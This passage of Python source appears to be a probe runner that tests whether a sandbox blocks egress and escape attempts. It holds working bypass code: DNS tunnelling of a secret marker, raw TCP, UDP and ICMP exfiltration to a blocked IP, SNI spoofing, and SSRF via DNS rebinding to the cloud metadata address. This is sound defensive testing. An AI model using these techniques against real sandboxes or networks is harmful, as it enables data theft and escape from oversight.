"""The probe runner of `sandgate verify`: every permitted action and every known bypass, tried for real.

Run INSIDE a sandbox (`sandgate verify` starts it with `sandgate run`), from the workspace:

    python -m launcher.probes SPEC.json [--context child|grandchild|daemon] [--only NAME ...] [--no-spawn]

Stdlib only: the sandbox's python may have nothing else. One JSON object per line on stdout:

    {"group", "probe", "context", "expected", "observed", "detail"}

`observed` is the probe's own view: "permitted" (the action succeeded: data came back, the file
was written), "blocked" (it failed), "unsupported" (the probe could not run here, or the probe
itself broke: a bug in a probe must never read as a pass). The orchestrator also checks the
canary servers' logs, so every network probe carries a marker: HTTP path `/verify/<ctx>/<probe>`,
TCP/UDP payload `verify:<ctx>:<probe>\\n`, DNS name `<probe>-<ctx>.<exfil_domain>` ("_" -> "-");
<ctx> is the context, or `<context>-<tag>` when the spec has a "marker_tag" (one per verify pass).

Contexts: the runner (context "child") runs every probe, then itself again through `sh -c` as a
"grandchild" (output relayed), then forks a "daemon" (double fork + setsid, stdio on /dev/null)
that writes `<results_dir>/daemon-<token>.jsonl`, renames it to `daemon-<token>.done.jsonl`
(relayed by the parent, which waits up to DAEMON_WAIT s), names itself `<daemon_token>` and
then keeps appending "alive <time> <ok|fail>" to `daemon-<token>.heartbeat` every 0.5 s for up to
120 s: the orchestrator checks after the run that the sandbox killed it.

The process probes act on pid 1, which inside sandgate is the sandbox's init. Outside a sandbox
(as root) they would touch the host's init: only run this inside `sandgate run`.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import fcntl
import http.client
import json
import os
import random
import shlex
import signal
import socket
import ssl
import stat
import struct
import subprocess
import sys
import termios
import time
import traceback
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from types import FrameType
from typing import Any

GROUPS = ("network", "filesystem", "process")
CONTEXTS = ("child", "grandchild", "daemon")
EXPECTED = ("permitted", "blocked")
OBSERVED = ("permitted", "blocked", "unsupported")

HTTP_TIMEOUT = 5.0  # every HTTP(S) exchange
TCP_TIMEOUT = 3.0  # raw TCP / unix connect and reply
DNS_TIMEOUT = 3.0
ECHO_WAIT = 1.5  # UDP / QUIC / ICMP: how long to wait for an echo
PROBE_WATCHDOG = 20.0  # a probe still running after this is reported "unsupported" (probe bug)
BODY_LIMIT = 4096
DETAIL_LIMIT = 300
PROC_PIDS_LIMIT = 20  # more pids than this in /proc: we see processes that are not the sandbox's
DAEMON_WAIT = 30.0
HEARTBEAT_INTERVAL = 0.5
HEARTBEAT_DURATION = 120.0
GRANDCHILD_TIMEOUT = 300.0
USER_AGENT = "sandgate-verify"

#: errno values that mean "the kernel or a boundary said no" (as opposed to a broken probe).
REFUSAL_ERRNOS = frozenset(
    {
        errno.EPERM,
        errno.EACCES,
        errno.EROFS,
        errno.EXDEV,
        errno.EBUSY,
        errno.ENETUNREACH,
        errno.EHOSTUNREACH,
        errno.EAFNOSUPPORT,
        errno.ECONNREFUSED,
    }
)
REFUSAL_TYPES: tuple[type[BaseException], ...] = (
    PermissionError,
    ConnectionRefusedError,
    ConnectionResetError,
    TimeoutError,
    socket.timeout,
)

Result = tuple[str, str]  # (observed, detail)
Spec = Mapping[str, Any]


class Blocked(Exception):
    """Raised by a probe when the action failed in a way the probe itself recognised as a refusal."""


class Unsupported(Exception):
    """Raised by a probe that cannot run here (no terminal, no proxy variable, no .git...)."""


class ProbeHung(Exception):
    """The watchdog fired: a probe ran past PROBE_WATCHDOG seconds."""


# ---------------------------------------------------------------------------------------- registry


@dataclass(frozen=True)
class Ctx:
    """What a probe gets: the spec, the context it runs in and its own name (for markers)."""

    spec: Spec
    context: str
    probe: str

    def s(self, key: str) -> str:
        """A spec value as a string (a missing key is a broken spec: KeyError -> unsupported)."""
        return str(self.spec[key])

    def port(self, key: str) -> int:
        return int(self.spec[key])

    @property
    def mark(self) -> str:
        """The context as markers spell it, `<context>-<tag>` when verify runs passes (spec "marker_tag")."""
        tag = self.spec.get("marker_tag")
        return f"{self.context}-{tag}" if tag else self.context

    @property
    def path(self) -> str:
        """HTTP marker: the request path."""
        return f"/verify/{self.mark}/{self.probe}"

    @property
    def marker(self) -> bytes:
        """TCP/UDP/unix marker: the payload."""
        return f"verify:{self.mark}:{self.probe}\n".encode()

    @property
    def label(self) -> str:
        """DNS marker: `<probe>-<mark>`, lowercase and label-safe."""
        return dns_label(f"{self.probe}-{self.mark}")

    def dns_name(self) -> str:
        return f"{self.label}.{self.s('exfil_domain')}"

    def url(self, scheme: str, host: str) -> str:
        return f"{scheme}://{host}{self.path}"


@dataclass(frozen=True)
class Probe:
    group: str
    name: str
    expected: str
    contexts: frozenset[str]
    fn: Callable[[Ctx], Result] = field(compare=False)

    @property
    def threat(self) -> str:
        """First line of the probe function's docstring: the threat it represents."""
        return (self.fn.__doc__ or "").strip().splitlines()[0] if self.fn.__doc__ else ""


REGISTRY: dict[str, Probe] = {}


def probe(
    group: str, name: str, expected: str, contexts: Iterable[str] = CONTEXTS
) -> Callable[[Callable[[Ctx], Result]], Callable[[Ctx], Result]]:
    """Register a probe function under a unique name; it returns (observed, detail) or raises."""
    ctxs = frozenset(contexts)
    if group not in GROUPS or expected not in EXPECTED or not ctxs <= set(CONTEXTS) or not ctxs:
        raise ValueError(f"bad probe declaration {group}/{name}/{expected}/{sorted(ctxs)}")

    def register(fn: Callable[[Ctx], Result]) -> Callable[[Ctx], Result]:
        if name in REGISTRY:
            raise ValueError(f"duplicate probe name {name!r}")
        REGISTRY[name] = Probe(group, name, expected, ctxs, fn)
        return fn

    return register


def ordered() -> list[Probe]:
    """Every probe in run order: by group (GROUPS), then as registered (probes_host.py registers last)."""
    return sorted(REGISTRY.values(), key=lambda p: GROUPS.index(p.group))


def probe_list() -> list[tuple[str, str, str]]:
    """(group, probe, expected) of every registered probe, in run order (for documentation)."""
    return [(p.group, p.name, p.expected) for p in ordered()]


def select_probes(context: str, only: Iterable[str] | None = None) -> list[Probe]:
    """The probes that make sense in `context`, optionally restricted to `only` (probe or group names)."""
    wanted = set(only) if only else None
    if wanted is not None and (unknown := wanted - REGISTRY.keys() - set(GROUPS)):
        raise ValueError(f"unknown probe(s) or group(s): {', '.join(sorted(unknown))}")
    return [p for p in ordered() if context in p.contexts and (wanted is None or p.name in wanted or p.group in wanted)]


# ------------------------------------------------------------------------------- running probes


def is_refusal(exc: BaseException) -> bool:
    """True when `exc` means the action was refused (not that the probe is broken)."""
    if isinstance(exc, (Blocked, *REFUSAL_TYPES)):
        return True
    return isinstance(exc, OSError) and exc.errno in REFUSAL_ERRNOS


def describe(exc: BaseException) -> str:
    """Short text for an exception: errno name plus message."""
    if isinstance(exc, (Blocked, Unsupported, ProbeHung)):
        return str(exc)
    if isinstance(exc, OSError) and exc.errno is not None:
        return f"{errno.errorcode.get(exc.errno, exc.errno)}: {exc}"
    text = str(exc)
    return f"{type(exc).__name__}: {text}" if text else type(exc).__name__


def _last_line(exc: BaseException) -> str:
    """The traceback's last line plus where it was raised, for an unexpected exception."""
    line = traceback.format_exception_only(exc)[-1].strip()
    tb = traceback.extract_tb(exc.__traceback__)
    return f"{line} (at {Path(tb[-1].filename).name}:{tb[-1].lineno})" if tb else line


def _clip(text: str) -> str:
    text = " ".join(text.split())
    return text if len(text) <= DETAIL_LIMIT else text[: DETAIL_LIMIT - 3] + "..."


def run_one(p: Probe, spec: Spec, context: str, *, watchdog: float | None = PROBE_WATCHDOG) -> dict[str, str]:
    """Run one probe and turn whatever happened into its JSON record (never raises for probe failures)."""

    def alarm(_signum: int, _frame: FrameType | None) -> None:
        raise ProbeHung(f"probe still running after {watchdog:g} s (a probe bug: every wait has a timeout)")

    armed = watchdog is not None
    old: Any = None
    if watchdog is not None:
        try:
            old = signal.signal(signal.SIGALRM, alarm)
            signal.setitimer(signal.ITIMER_REAL, watchdog)
        except ValueError:  # not the main thread: no watchdog
            armed = False
    try:
        observed, detail = p.fn(Ctx(spec, context, p.name))
        if observed not in OBSERVED:
            observed, detail = "unsupported", f"probe returned observed={observed!r}"
    except Unsupported as e:
        observed, detail = "unsupported", describe(e)
    except ProbeHung as e:
        observed, detail = "unsupported", describe(e)
    except Exception as e:
        if is_refusal(e):
            observed, detail = "blocked", describe(e)
        else:
            observed, detail = "unsupported", "unexpected " + _last_line(e)
    finally:
        if armed:
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, old)
    return {
        "group": p.group,
        "probe": p.name,
        "context": context,
        "expected": p.expected,
        "observed": observed,
        "detail": _clip(str(detail)),
    }


def run_probes(spec: Spec, context: str, only: Iterable[str] | None = None) -> Iterator[dict[str, str]]:
    """Records of every probe for `context`, one by one (each written as soon as it is done)."""
    for p in select_probes(context, only):
        yield run_one(p, spec, context)


def attempt(fn: Callable[..., Result], *args: Any, **kwargs: Any) -> Result:
    """Run one part of a multi-part probe, classified like a whole probe (see run_one).

    A part that breaks becomes ("unsupported", why) instead of aborting the probe, so a bypass
    found by another part is still reported as "permitted".
    """
    try:
        return fn(*args, **kwargs)
    except ProbeHung:
        raise
    except Unsupported as e:
        return "unsupported", describe(e)
    except Exception as e:
        if is_refusal(e):
            return "blocked", describe(e)
        return "unsupported", "unexpected " + _last_line(e)


def combine(parts: list[tuple[str, Result]], *, need: str) -> Result:
    """Merge labelled part results.

    need="any": a bypass anywhere counts (expected-blocked probes): permitted if any part was.
    need="all": every action must work (expected-permitted probes): blocked if any part was.
    Either way an unsupported part without a deciding part makes the whole unsupported.
    """
    observed = [r[0] for _, r in parts]
    decisive = "permitted" if need == "any" else "blocked"
    other = "blocked" if need == "any" else "permitted"
    if decisive in observed:
        verdict = decisive
    elif "unsupported" in observed:
        verdict = "unsupported"
    else:
        verdict = other
    return verdict, "; ".join(f"{label}: {detail}" for label, (_, detail) in parts)


# ------------------------------------------------------------------------------------ DNS wire


RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
QTYPE_A, QTYPE_TXT = 1, 16


def dns_label(text: str) -> str:
    """Lowercase, [a-z0-9-] only: a safe DNS label (not length-checked)."""
    return "".join(c if c.isalnum() and c.isascii() else "-" for c in text.lower())


def encode_name(name: str) -> bytes:
    """A domain name in wire format; ValueError for an empty or too long label or name."""
    out = b""
    for label in name.rstrip(".").split("."):
        raw = label.encode("ascii")
        if not 0 < len(raw) <= 63:
            raise ValueError(f"bad DNS label {label!r} ({len(raw)} bytes)")
        out += bytes([len(raw)]) + raw
    out += b"\0"
    if len(out) > 255:
        raise ValueError(f"DNS name too long ({len(out)} bytes)")
    return out


def build_query(name: str, qtype: int = QTYPE_A, qid: int | None = None) -> bytes:
    """A recursive query (RD set) for one name, class IN."""
    qid = random.randrange(0x10000) if qid is None else qid
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + encode_name(name) + struct.pack("!HH", qtype, 1)


@dataclass
class DnsRecord:
    name: str
    rtype: int
    ttl: int
    data: str  # dotted quad for A, the joined strings for TXT, hex otherwise


@dataclass
class DnsMessage:
    id: int
    flags: int
    questions: list[tuple[str, int]]
    answers: list[DnsRecord]

    @property
    def is_response(self) -> bool:
        return bool(self.flags & 0x8000)

    @property
    def rcode(self) -> int:
        return self.flags & 0xF

    @property
    def rcode_text(self) -> str:
        return RCODES.get(self.rcode, str(self.rcode))


def _read_name(data: bytes, off: int) -> tuple[str, int]:
    """Name at `off` (compression pointers followed); returns (name, offset after it in the original place)."""
    labels: list[str] = []
    end = None
    jumps = 0
    while True:
        if off >= len(data):
            raise ValueError("truncated DNS name")
        n = data[off]
        if n & 0xC0 == 0xC0:
            if off + 1 >= len(data):
                raise ValueError("truncated DNS pointer")
            if end is None:
                end = off + 2
            off = ((n & 0x3F) << 8) | data[off + 1]
            jumps += 1
            if jumps > 32:
                raise ValueError("DNS pointer loop")
            continue
        if n & 0xC0:
            raise ValueError(f"bad DNS label type {n:#x}")
        off += 1
        if n == 0:
            break
        if off + n > len(data):
            raise ValueError("truncated DNS label")
        labels.append(data[off : off + n].decode("ascii", "replace"))
        off += n
    return ".".join(labels), (end if end is not None else off)


def parse_message(data: bytes) -> DnsMessage:
    """Header, questions and answer records of a DNS message; ValueError if malformed."""
    if len(data) < 12:
        raise ValueError(f"DNS message too short ({len(data)} bytes)")
    qid, flags, qd, an, _ns, _ar = struct.unpack("!HHHHHH", data[:12])
    off = 12
    questions = []
    for _ in range(qd):
        name, off = _read_name(data, off)
        if off + 4 > len(data):
            raise ValueError("truncated DNS question")
        qtype, _qclass = struct.unpack("!HH", data[off : off + 4])
        off += 4
        questions.append((name, qtype))
    answers = []
    for _ in range(an):
        name, off = _read_name(data, off)
        if off + 10 > len(data):
            raise ValueError("truncated DNS record")
        rtype, _rclass, ttl, rdlen = struct.unpack("!HHIH", data[off : off + 10])
        off += 10
        rdata = data[off : off + rdlen]
        if len(rdata) != rdlen:
            raise ValueError("truncated DNS rdata")
        off += rdlen
        if rtype == QTYPE_A and rdlen == 4:
            text = socket.inet_ntoa(rdata)
        elif rtype == QTYPE_TXT:
            parts, i = [], 0
            while i < len(rdata):
                parts.append(rdata[i + 1 : i + 1 + rdata[i]].decode("utf-8", "replace"))
                i += 1 + rdata[i]
            text = "".join(parts)
        else:
            text = rdata.hex()
        answers.append(DnsRecord(name, rtype, ttl, text))
    return DnsMessage(qid, flags, questions, answers)


def dns_exchange(
    server: str, name: str, qtype: int = QTYPE_A, *, port: int = 53, tcp: bool = False, timeout: float = DNS_TIMEOUT
) -> DnsMessage:
    """Send one query straight to server:port and return the matching reply (TimeoutError if none)."""
    query = build_query(name, qtype)
    qid = struct.unpack("!H", query[:2])[0]
    if tcp:
        with socket.create_connection((server, port), timeout=timeout) as s:
            s.sendall(struct.pack("!H", len(query)) + query)
            size = struct.unpack("!H", _recv_exact(s, 2))[0]
            reply = parse_message(_recv_exact(s, size))
        if reply.id != qid:
            raise ValueError(f"DNS reply with id {reply.id}, expected {qid}")
        return reply
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.connect((server, port))
        s.send(query)
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            s.settimeout(left)
            try:
                reply = parse_message(s.recv(4096))
            except ValueError:
                continue  # garbage: keep waiting for our answer
            if reply.id == qid and reply.is_response:
                return reply
        raise TimeoutError(f"no DNS reply from {server}:{port} within {timeout:g} s")


def _recv_exact(s: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        got = s.recv(n - len(buf))
        if not got:
            raise Blocked(f"connection closed after {len(buf)} of {n} bytes")
        buf += got
    return buf


def _dns_verdict(reply: DnsMessage) -> Result:
    """Permitted only for NOERROR: the name was looked up and answered."""
    answers = ", ".join(f"{r.data}" for r in reply.answers) or "no answers"
    detail = f"rcode {reply.rcode_text}, {answers}"
    return ("permitted" if reply.rcode == 0 else "blocked"), detail


def system_resolver() -> str:
    """First nameserver of /etc/resolv.conf (the sandbox's own DNS listener)."""
    for line in Path("/etc/resolv.conf").read_text().splitlines():
        fields = line.split()
        if len(fields) >= 2 and fields[0] == "nameserver":
            return fields[1]
    raise Unsupported("no nameserver in /etc/resolv.conf")


# ---------------------------------------------------------------------------- network helpers


def _ca_context(spec: Spec) -> ssl.SSLContext:
    return ssl.create_default_context(cafile=str(spec["ca"]))


def _blind_context() -> ssl.SSLContext:
    """No verification: a bypass probe wants to see WHO answered, whatever certificate it shows."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def _net_failure(exc: BaseException) -> BaseException:
    """Map a network exception to Blocked when it means 'the exchange did not happen'; else return as is."""
    if isinstance(exc, socket.gaierror):
        return Blocked(f"name did not resolve: {exc}")
    if isinstance(exc, ssl.SSLError):
        return Blocked(f"TLS failed: {exc}")
    if isinstance(exc, OSError) and str(exc).startswith("Tunnel connection failed"):
        return Blocked(str(exc))  # urllib/http.client: the proxy refused CONNECT
    if isinstance(exc, OSError) and exc.errno == errno.EADDRNOTAVAIL:
        return Blocked(describe(exc))
    return exc


def _env_proxy(scheme: str) -> str:
    proxy = urllib.request.getproxies().get(scheme)
    if not proxy:
        raise Unsupported(f"{scheme.upper()}_PROXY is not set")
    return proxy


def _proxy_address(scheme: str) -> tuple[str, int]:
    u = urllib.parse.urlsplit(_env_proxy(scheme))
    if not u.hostname:
        raise Unsupported(f"cannot parse {scheme.upper()}_PROXY")
    return u.hostname, u.port or 80


def fetch(url: str, spec: Spec, *, env_proxy: bool) -> tuple[int, bytes]:
    """GET with urllib: proxy from the environment (env_proxy) or none; (status, body) of any HTTP reply."""
    handlers: list[urllib.request.BaseHandler] = [urllib.request.HTTPSHandler(context=_ca_context(spec))]
    if env_proxy:
        _env_proxy(urllib.parse.urlsplit(url).scheme)  # a proxy probe without a proxy proves nothing
    else:
        handlers.append(urllib.request.ProxyHandler({}))
    opener = urllib.request.build_opener(*handlers)
    req = urllib.request.Request(url, headers={"User-Agent": USER_AGENT})
    try:
        with opener.open(req, timeout=HTTP_TIMEOUT) as resp:
            return resp.status, resp.read(BODY_LIMIT)
    except urllib.error.HTTPError as e:
        return e.code, e.read(BODY_LIMIT) if e.fp is not None else b""
    except urllib.error.URLError as e:
        reason = e.reason
        if isinstance(reason, BaseException):
            raise _net_failure(reason) from e
        raise Blocked(f"URLError: {reason}") from e
    except OSError as e:
        raise _net_failure(e) from e


def _http_verdict(status: int, body: bytes) -> Result:
    """Permitted for a 2xx: the request went through and data came back."""
    return ("permitted" if 200 <= status < 300 else "blocked"), f"HTTP {status}: {body[:120]!r}"


def http_exchange(sock: socket.socket, target: str, host: str) -> tuple[int, bytes]:
    """One hand-written GET over an open (TLS or plain) socket: (status, body)."""
    sock.sendall(
        (
            f"GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {USER_AGENT}\r\nAccept: */*\r\n"
            f"Connection: close\r\n\r\n"
        ).encode("ascii")
    )
    resp = http.client.HTTPResponse(sock, method="GET")  # type: ignore[arg-type]
    try:
        resp.begin()
        return resp.status, resp.read(BODY_LIMIT)
    finally:
        resp.close()


def raw_http(ip: str, port: int, target: str, host: str, *, sni: str | None = None) -> tuple[int, bytes]:
    """GET `target` from ip:port with this Host header, optionally over TLS with this SNI (unverified)."""
    try:
        with socket.create_connection((ip, port), timeout=HTTP_TIMEOUT) as raw:
            if sni is None:
                return http_exchange(raw, target, host)
            with _blind_context().wrap_socket(raw, server_hostname=sni) as tls:
                return http_exchange(tls, target, host)
    except OSError as e:
        raise _net_failure(e) from e


def _says(body: bytes, host: str) -> bool:
    return f"hello from {host}".encode() in body


def _recv_all(s: socket.socket, limit: int = BODY_LIMIT) -> bytes:
    """Read until EOF, `limit` bytes or a timeout after some data (TimeoutError if nothing came)."""
    data = b""
    while len(data) < limit:
        try:
            got = s.recv(limit - len(data))
        except TimeoutError:
            if data:
                break
            raise
        if not got:
            break
        data += got
    return data


def tcp_canary(host: str, port: int, payload: bytes, expect: bytes = b"tcp-canary") -> Result:
    """Connect, send the marker, read: permitted only if the canary's reply arrived."""
    with socket.create_connection((host, port), timeout=TCP_TIMEOUT) as s:
        s.sendall(payload)
        reply = _recv_all(s)
    if expect in reply:
        return "permitted", f"{host}:{port} replied {reply[:60]!r}"
    return "blocked", f"{host}:{port}: connection closed, reply {reply[:60]!r}"


def udp_echo(host: str, port: int, payload: bytes, wait: float = ECHO_WAIT) -> Result:
    """One datagram; permitted if anything comes back from host:port within `wait`."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(wait)
        s.connect((host, port))
        s.send(payload)
        try:
            reply = s.recv(4096)
        except TimeoutError:
            return "blocked", f"{host}:{port}/udp: no reply within {wait:g} s"
    return "permitted", f"{host}:{port}/udp replied {reply[:60]!r}"


def unix_canary(address: str | bytes, payload: bytes, shown: str) -> Result:
    """Connect to a unix socket: an established connection already reaches the outside service."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(TCP_TIMEOUT)
        s.connect(address)
        s.sendall(payload)
        try:
            reply = _recv_all(s)
        except TimeoutError:
            reply = b""
    return "permitted", f"connected to {shown}, reply {reply[:60]!r}"


def icmp_checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def icmp_echo_request(ident: int, seq: int, payload: bytes) -> bytes:
    head = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
    csum = icmp_checksum(head + payload)
    return struct.pack("!BBHHH", 8, 0, csum, ident, seq) + payload


def _icmp_ping(target: str, payload: bytes, kind: int) -> Result:
    """Echo request over a raw (SOCK_RAW) or ping (SOCK_DGRAM) socket; permitted on an echo reply."""
    ident = os.getpid() & 0xFFFF
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
        s.sendto(icmp_echo_request(ident, 1, payload), (target, 0))
        deadline = time.monotonic() + ECHO_WAIT
        while (left := deadline - time.monotonic()) > 0:
            s.settimeout(left)
            try:
                data, addr = s.recvfrom(4096)
            except TimeoutError:
                break
            if kind == socket.SOCK_RAW:
                data = data[(data[0] & 0x0F) * 4 :]  # raw sockets deliver the IP header too
            if addr[0] == target and len(data) >= 8 and data[0] == 0 and payload in data[8:]:
                return "permitted", f"echo reply from {target}"
    return "blocked", f"no echo reply from {target} within {ECHO_WAIT:g} s"


# ------------------------------------------------------------------------------ network probes


@probe("network", "https_proxy_vars", "permitted")
def https_proxy_vars(c: Ctx) -> Result:
    """Control: HTTPS to an allowed host through HTTPS_PROXY, as well-behaved tools do."""
    return _http_verdict(*fetch(c.url("https", c.s("allowed_host")), c.spec, env_proxy=True))


@probe("network", "http_proxy_vars", "permitted")
def http_proxy_vars(c: Ctx) -> Result:
    """Control: plain HTTP to an allowed host through HTTP_PROXY."""
    return _http_verdict(*fetch(c.url("http", c.s("allowed_host")), c.spec, env_proxy=True))


@probe("network", "https_transparent", "permitted")
def https_transparent(c: Ctx) -> Result:
    """Control: a tool that ignores proxy variables still reaches an allowed host (sandbox DNS + redirect)."""
    return _http_verdict(*fetch(c.url("https", c.s("allowed_host")), c.spec, env_proxy=False))


@probe("network", "blocked_via_proxy", "blocked")
def blocked_via_proxy(c: Ctx) -> Result:
    """Egress to a host off the allowlist through the explicit proxy (403 / refused tunnel = blocked)."""
    return _http_verdict(*fetch(c.url("https", c.s("blocked_host")), c.spec, env_proxy=True))


@probe("network", "blocked_transparent", "blocked")
def blocked_transparent(c: Ctx) -> Result:
    """Egress to a blocked host by a tool that ignores the proxy; if its name does not resolve, by IP + SNI."""
    try:
        return _http_verdict(*fetch(c.url("https", c.s("blocked_host")), c.spec, env_proxy=False))
    except Blocked as e:
        if not str(e).startswith("name did not resolve"):
            raise
        why = str(e)
    ip = c.s("blocked_ip")
    observed, detail = attempt(
        lambda: _http_verdict(*raw_http(ip, 443, c.path, c.s("blocked_host"), sni=c.s("blocked_host")))
    )
    return observed, f"{why}; by hand to {ip}:443: {detail}"


@probe("network", "direct_tcp_ip", "blocked")
def direct_tcp_ip(c: Ctx) -> Result:
    """Raw TCP to a blocked IP (no name for the proxy to judge): exfiltration over any protocol."""
    return tcp_canary(c.s("blocked_ip"), c.port("tcp_port"), c.marker)


@probe("network", "allowed_ip_other_port", "blocked")
def allowed_ip_other_port(c: Ctx) -> Result:
    """An allowed host's IP on a port that is not allowed (rules are host AND port)."""
    return tcp_canary(c.s("allowed_ip"), c.port("other_port"), c.marker)


@probe("network", "connect_ip_literal", "blocked")
def connect_ip_literal(c: Ctx) -> Result:
    """CONNECT to a bare IP through the explicit proxy: skips every name-based decision."""
    target = f"{c.s('blocked_ip')}:443"
    proxy = _proxy_address("https")
    with socket.create_connection(proxy, timeout=HTTP_TIMEOUT) as s:
        s.sendall(
            (
                f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {USER_AGENT}\r\n"
                f"X-Sandgate-Verify: {c.marker.decode().strip()}\r\n\r\n"
            ).encode()
        )
        head = b""
        while b"\r\n\r\n" not in head and len(head) < BODY_LIMIT:
            got = s.recv(BODY_LIMIT)
            if not got:
                break
            head += got
        status_line = head.split(b"\r\n", 1)[0].decode("latin-1")
        fields = status_line.split()
        if not head:
            raise Blocked("proxy closed the connection without a reply")
        if len(fields) < 2 or not fields[1].isdigit():
            raise Blocked(f"no HTTP status from proxy: {head[:60]!r}")
        if fields[1] != "200":
            return "blocked", f"proxy answered {status_line!r}"
        # The tunnel is open: put the marker through it so the canary log shows who came.
        try:
            with _blind_context().wrap_socket(s, server_hostname=None) as tls:
                status, body = http_exchange(tls, c.path, c.s("blocked_ip"))
            extra = f"then HTTP {status}: {body[:60]!r}"
        except (OSError, http.client.HTTPException) as e:
            extra = f"then {describe(e)}"
    return "permitted", f"proxy answered {status_line!r}; {extra}"


@probe("network", "sni_spoof", "blocked")
def sni_spoof(c: Ctx) -> Result:
    """TLS to a blocked IP with an allowed SNI: the proxy must go to the NAME, never the original IP."""
    status, body = raw_http(c.s("blocked_ip"), 443, c.path, c.s("allowed_host"), sni=c.s("allowed_host"))
    observed = "permitted" if _says(body, c.s("blocked_host")) else "blocked"
    return observed, f"HTTP {status}: {body[:120]!r}"


def _host_mismatch_transparent(c: Ctx) -> Result:
    status, body = raw_http(c.s("blocked_ip"), 80, c.path, c.s("allowed_host"))
    return ("permitted" if _says(body, c.s("blocked_host")) else "blocked"), f"HTTP {status}: {body[:80]!r}"


def _host_mismatch_proxy(c: Ctx) -> Result:
    host, port = _proxy_address("http")
    target = f"http://{c.s('blocked_host')}{c.path}"
    try:
        with socket.create_connection((host, port), timeout=HTTP_TIMEOUT) as s:
            status, body = http_exchange(s, target, c.s("allowed_host"))
    except OSError as e:
        raise _net_failure(e) from e
    return _http_verdict(status, body)


@probe("network", "host_mismatch", "blocked")
def host_mismatch(c: Ctx) -> Result:
    """Plain HTTP whose Host header names an allowed host while the IP / absolute URI is a blocked one."""
    return combine(
        [("transparent", attempt(_host_mismatch_transparent, c)), ("explicit proxy", attempt(_host_mismatch_proxy, c))],
        need="any",
    )


@probe("network", "rebind_loopback", "blocked")
def rebind_loopback(c: Ctx) -> Result:
    """An allowed name resolving to 127.0.0.1 (DNS rebinding): SSRF into the proxy host's own services."""
    return _http_verdict(*fetch(c.url("http", c.s("rebind_loopback_host")), c.spec, env_proxy=True))


@probe("network", "rebind_metadata", "blocked")
def rebind_metadata(c: Ctx) -> Result:
    """An allowed name resolving to 169.254.169.254: SSRF into the cloud metadata service (credentials)."""
    return _http_verdict(*fetch(c.url("http", c.s("rebind_metadata_host")), c.spec, env_proxy=True))


@probe("network", "udp", "blocked")
def udp(c: Ctx) -> Result:
    """A UDP datagram to a blocked IP: exfiltration without TCP."""
    return udp_echo(c.s("blocked_ip"), c.port("udp_port"), c.marker)


@probe("network", "quic", "blocked")
def quic(c: Ctx) -> Result:
    """UDP 443 (QUIC / HTTP/3) to a blocked IP: TLS the TCP proxy never sees."""
    return udp_echo(c.s("blocked_ip"), c.port("quic_port"), c.marker)


@probe("network", "dns_udp_rogue", "blocked")
def dns_udp_rogue(c: Ctx) -> Result:
    """DNS over UDP straight to a foreign resolver: the query name itself exfiltrates data."""
    return _dns_verdict(dns_exchange(c.s("rogue_resolver"), c.dns_name()))


@probe("network", "dns_tcp_rogue", "blocked")
def dns_tcp_rogue(c: Ctx) -> Result:
    """DNS over TCP straight to a foreign resolver."""
    return _dns_verdict(dns_exchange(c.s("rogue_resolver"), c.dns_name(), tcp=True))


def exfil_name(secret: str, context: str, domain: str) -> str:
    """`<hex of secret>-<context>.<domain>`, the first part cut into 63-byte labels if longer."""
    first = dns_label(f"{secret.encode().hex()}-{context}")
    labels = [first[i : i + 63] for i in range(0, len(first), 63)]
    return ".".join([*labels, domain])


@probe("network", "dns_txt_exfil", "blocked")
def dns_txt_exfil(c: Ctx) -> Result:
    """A secret encoded in a TXT query to the sandbox's own resolver (DNS tunnelling).

    The name is `<hex of secret_marker>-<ctx>.<probe>-<ctx>.<exfil_domain>`: the secret leads, and
    the probe's usual marker label follows so canary logs attribute the query like any other.
    """
    name = exfil_name(c.s("secret_marker"), c.context, c.dns_name())
    return _dns_verdict(dns_exchange(system_resolver(), name, QTYPE_TXT))


@probe("network", "ipv6", "blocked")
def ipv6(c: Ctx) -> Result:
    """IPv6 egress, which an IPv4-only firewall would not see."""
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
            s.settimeout(TCP_TIMEOUT)
            s.connect(("2001:db8::1", 80))
            s.sendall(c.marker)
    except OSError as e:
        raise _net_failure(e) from e
    return "permitted", "connected to [2001:db8::1]:80"


@probe("network", "raw_icmp", "blocked")
def raw_icmp(c: Ctx) -> Result:
    """ICMP echo (raw and ping sockets) to a blocked IP: a classic tunnel that is neither TCP nor UDP."""
    target = c.s("blocked_ip")
    return combine(
        [
            ("raw socket", attempt(_icmp_ping, target, c.marker, socket.SOCK_RAW)),
            ("ping socket", attempt(_icmp_ping, target, c.marker, socket.SOCK_DGRAM)),
        ],
        need="any",
    )


@probe("network", "abstract_unix", "blocked")
def abstract_unix(c: Ctx) -> Result:
    """An abstract unix socket served outside (X11, D-Bus, container runtimes live there)."""
    name = c.s("abstract_socket")
    return unix_canary(b"\0" + name.encode(), c.marker, f"@{name}")


@probe("network", "path_unix", "blocked")
def path_unix(c: Ctx) -> Result:
    """A filesystem unix socket served outside (docker.sock-like), under the host's /tmp."""
    path = c.s("path_socket")
    try:
        return unix_canary(path, c.marker, path)
